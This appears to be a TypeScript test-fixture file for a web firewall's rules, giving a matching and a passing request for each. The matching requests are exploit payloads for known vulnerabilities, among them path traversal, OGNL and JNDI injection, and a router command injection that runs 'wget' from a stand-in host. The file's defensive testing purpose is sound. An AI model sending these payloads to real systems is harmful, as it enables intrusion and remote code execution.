// For each rule of miscellaneous.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { form, get, json, xml } from './sample-requests.cases.ts'

export const MISCELLANEOUS_SAMPLES: RuleSamples = {
  '6502a815b21b356aa6f7a4481bc977d1': {
    matching: get('/DnnImageHandler.ashx?mode=file&file=..%2f..%2fweb.config'),
    passing: get('/DnnImageHandler.ashx?mode=file&file=logo.png'),
  },
  '0ad5a445d1727ac9b8f13815301a90fd': {
    matching: get('/', { host: 'www.example.com:8443' }),
    passing: get('/', { host: 'www.example.com:443' }),
  },
  d11ff2f3a7b2c508de4ea7ae16a56bdd: {
    matching: {
      method: 'POST',
      target: '/index.action',
      headers: {
        'content-type': "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
      },
    },
    passing: {
      method: 'POST',
      target: '/index.action',
      headers: { 'content-type': 'multipart/form-data; boundary={a}' },
    },
  },
  '23ee7cebe6e8443e99ecf932ab579455': {
    matching: get('/index.action?redirect:http://192.0.2.66/'),
    passing: get('/index.action?redirect=home'),
  },
  '5e684f982e9c7c9d323d1f99f58f60fa': {
    matching: get('/$%7B(111+111)%7D/register.action'),
    passing: get('/docs/$%7Bversion%7D/register'),
  },
  '66c6cfb1173fb2953924a29c90271969': {
    matching: get('/cgi-bin/.%2e/.%2e/.%2e/bin/sh'),
    passing: get('/icons/small/text.gif'),
  },
  '781ddea6b1084436ef68071a408cff2b': {
    matching: get('/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/'),
    passing: get('/pages/viewpage.action?pageId=1&queryString=plans'),
  },
  '6ca9a79bed1109ff21a54a0602971038': {
    matching: get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
    passing: get('/server-info.action'),
  },
  d9e350f1b72d4730899c8a420e48a85d: {
    matching: get('/backend/cms/media?path=../../config/database.php'),
    passing: get('/storage/app/media/photo.jpg'),
  },
  '820bc1e0b6804cd4edaccec7de76373d': {
    matching: {
      method: 'POST',
      target: '/functionRouter',
      headers: { 'spring.cloud.function.routing-expression': 'T(java.lang.Runtime)' },
    },
    passing: { method: 'POST', target: '/functionRouter', headers: { 'spring-version': '3' } },
  },
  ee70473dc547986344c249479b9efdfc: {
    matching: get('/actuator/heapdump'),
    passing: get('/actuator/health'),
  },
  '9e6c8f93acaa72807564367f48839c0b': {
    matching: get(
      '/autodiscover/autodiscover.json?@example.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@example.com',
    ),
    passing: get('/autodiscover/autodiscover.xml'),
  },
  '611ed3f470b6bb60645719e0d5e856e9': {
    matching: get('/ecp/x.js', { cookie: 'X-BEResource=server.example.com/api?~1941962753' }),
    passing: get('/ecp/', { cookie: 'X-BackEndCookie=a' }),
  },
  d22179da4afb1abda327a4fab841d774: {
    matching: get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'),
    passing: get('/tmui/login.jsp'),
  },
  '69ca4ebda1438e94d1f866076e294ff6': {
    matching: get('/vpn/../vpns/portal/scripts/newbm.pl'),
    passing: get('/vpn/index.html'),
  },
  '660a47c37abfdafa92a7c1cc8100ada1': {
    matching: get('/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd'),
    passing: get('/dana-na/auth/url_default/welcome.cgi'),
  },
  e9751ccf2a5fd1b00e934d12cc3988be: {
    matching: get('/public/plugins/alertlist/../../../../../etc/passwd'),
    passing: get('/public/plugins/alertlist/module.js'),
  },
  '08891a73397c4cad8367ac17a58e7ecb': {
    matching: get(
      '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=x',
    ),
    passing: get('/job/build/lastBuild/console'),
  },
  a663b0a9e31ab0102cea83805bae35a9: {
    matching: get('/solr/core/select?wt=velocity&v.template=custom&v.template.custom=%23set($x=1)'),
    passing: get('/solr/core/select?q=title:book&wt=json'),
  },
  '069a31b8431c903865bf53a4a5cbd04b': {
    matching: get('/console/css/%252e%252e%252fconsole.portal?_nfpb=true'),
    passing: get('/console/css/login.css'),
  },
  '213f12e901142d0bb919a941e289a2cc': {
    matching: form('/index.php', 'routestring=ajax/render/widget_php&widgetConfig[code]=echo+1;'),
    passing: form('/index.php', 'routestring=ajax/render/widget_text&title=a'),
  },
  fc3a8cdbc820a95f03acf402cdef2214: {
    matching: { method: 'POST', target: '/Telerik.Web.UI.WebResource.axd?type=rau' },
    passing: get('/Telerik.Web.UI.WebResource.axd?type=rau'),
  },
  cf3366ecc6f0df1f7feae537fb915475: {
    matching: get('/CFIDE/administrator/enter.cfm?locale=../../../lib/password.properties%00en'),
    passing: get('/shop/list.cfm?locale=en_US'),
  },
  '6e3c1799cc4153c56488eee8b31aae23': {
    matching: { method: 'POST', target: '/ui/vropspluginui/rest/services/uploadova' },
    passing: get('/ui/app/home'),
  },
  '0fe21174d05cec10bd9a26fd30d8c1c4': {
    matching: get(
      '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.66/a&curpath=/',
    ),
    passing: get('/cgi-bin/luci/admin/status'),
  },
  '581af1cc3535899ad10a0d2e52876173': {
    matching: xml('/SDK/webLanguage', '<?xml version="1.0"?><language>$(id>webLib/x)</language>'),
    passing: xml('/SDK/webLanguage', '<?xml version="1.0"?><language>en</language>'),
  },
  '05ff8673a370fc5d57ccd4d85f2774f2': {
    matching: get(
      '/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    ),
    passing: get('/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=name'),
  },
  '537eae26e4918b0a72aba9a083a58fff': {
    matching: {
      method: 'POST',
      target: '/uploads/user',
      headers: { 'content-type': 'image/mvg' },
      body: `push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://192.0.2.66/a.jpg"|id")'\npop graphic-context`,
    },
    passing: {
      method: 'POST',
      target: '/uploads/user',
      headers: { 'content-type': 'image/mvg' },
      body: 'push graphic-context\nviewbox 0 0 640 480\npop graphic-context',
    },
  },
  '99b356ba7e143cbbe3d6182d08cc5599': {
    matching: json('/v1.41/containers/create', '{"Image":"alpine"}'),
    passing: get('/shop/containers/create'),
  },
  '7e9e4980a5149f3156a076cc5f277002': {
    matching: get('/', { 'user-agent': '${jndi:ldap://192.0.2.66:1389/a}' }),
    passing: get('/', { 'user-agent': 'ExampleApp/${version}' }),
  },
  '69b324212d82eb987154d2a8af3911a5': {
    matching: get('/server-status'),
    passing: get('/status'),
  },
  '22195c94620fc6c56e9469a4a2495620': {
    matching: get('/modules/blocktopmenu/ajax.php?id=1+or+1=1'),
    passing: get('/modules/blocktopmenu/ajax.php?id=1&order=by+name'),
  },
}
